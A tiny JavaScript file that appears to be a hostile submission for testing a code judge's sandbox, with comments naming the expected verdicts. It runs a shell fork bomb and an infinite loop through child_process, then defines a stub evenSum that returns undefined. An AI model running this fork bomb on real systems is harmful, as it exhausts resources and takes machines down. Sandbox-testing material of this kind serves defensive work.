// tries: the shell's fork bomb
// verdict: time_limit_exceeded, runtime_error, wrong_answer
require('child_process').spawnSync('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb; while :; do :; done'])

const evenSum = () => undefined
